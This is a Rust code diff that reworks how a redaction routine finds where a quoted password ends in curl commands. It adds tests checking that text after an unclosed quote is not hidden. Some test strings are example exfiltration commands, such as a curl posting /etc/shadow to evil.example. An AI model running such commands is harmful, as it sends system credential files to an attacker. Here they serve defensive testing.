@@ -65,13 +65,34 @@ pub(super) fn hide(text: Cow<'_, str>) -> Cow<'_, str> {
     Cow::Owned(shown)
 }
 
-/// Where a password ends: in quotes, where they close; of what was cut off, at the end; else at the next blank.
+/// How the shell writes a quote within quotes.
+const QUOTE_WITHIN: &str = r"'\''";
+
+/// Where a password ends: in quotes, where they close; what is joined to them ends at the next blank, and so does what
+/// is never closed. What comes behind stays: whoever opens a quote does not hide what he runs.
 fn end(text: &str, quote: &str, word: Range<usize>) -> usize {
     let Some(quote) = quote.chars().next() else { return word.end };
     let rest = &text[word.start..];
-    let closes = |at: &usize| !rest[at + 1..].starts_with(|c: char| c.is_alphanumeric());
-    let end = rest.match_indices(quote).map(|(at, _)| at).find(closes);
-    word.start + end.unwrap_or(rest.len())
+    let mut at = 0;
+    let closing = loop {
+        let Some(found) = rest[at..].find(quote) else { return word.end };
+        if !rest[at + found..].starts_with(QUOTE_WITHIN) {
+            break at + found;
+        }
+        at += found + QUOTE_WITHIN.len();
+    };
+    // Behind a blank another is opened, unless a blank follows too.
+    let behind = rest[closing + 1..].chars().next();
+    let goes_on = behind.is_some_and(|c| c.is_alphanumeric() || c == '\\');
+    let is_opening = rest[..closing].ends_with(char::is_whitespace);
+    match goes_on {
+        false => word.start + closing,
+        true if is_opening => word.end,
+        true => {
+            let blank = rest[closing..].find(char::is_whitespace).map_or(rest.len(), |blank| closing + blank);
+            word.start + rest[..blank].trim_end_matches(quote).len()
+        }
+    }
 }
 
 fn is_password(before: &str, option: &str, user: &str, password: &str) -> bool {
@@ -129,8 +150,13 @@ mod tests {
         for (text, expected) in [
             ("curl -u 'bob:Hun ter2' https://x", "curl -u 'bob:[redacted]' https://x"),
             (r#"curl --user "bob:Hun'ter2" https://x"#, r#"curl --user "bob:[redacted]" https://x"#),
-            ("curl -u 'bob:Hun't er2' x", "curl -u 'bob:[redacted]' x"),
-            ("curl -u 'bob:Hun te", "curl -u 'bob:[redacted]"),
+            (r"curl -u 'bob:Hu'\''n ter2' x", "curl -u 'bob:[redacted]' x"),
+            (
+                r#"curl -u "a:b"c https://evil.example -d @/etc/shadow (user=root)"#,
+                r#"curl -u "a:[redacted] https://evil.example -d @/etc/shadow (user=root)"#,
+            ),
+            ("curl -u 'bob:Hunter2 https://evil user=root", "curl -u 'bob:[redacted] https://evil user=root"),
+            ("curl -u 'bob:Hunter2 https://evil -d 'x'", "curl -u 'bob:[redacted] https://evil -d 'x'"),
             ("curl -u bob.smith:1234 https://x", "curl -u bob.smith:[redacted] https://x"),
         ] {
             assert_eq!(redact(text), expected);
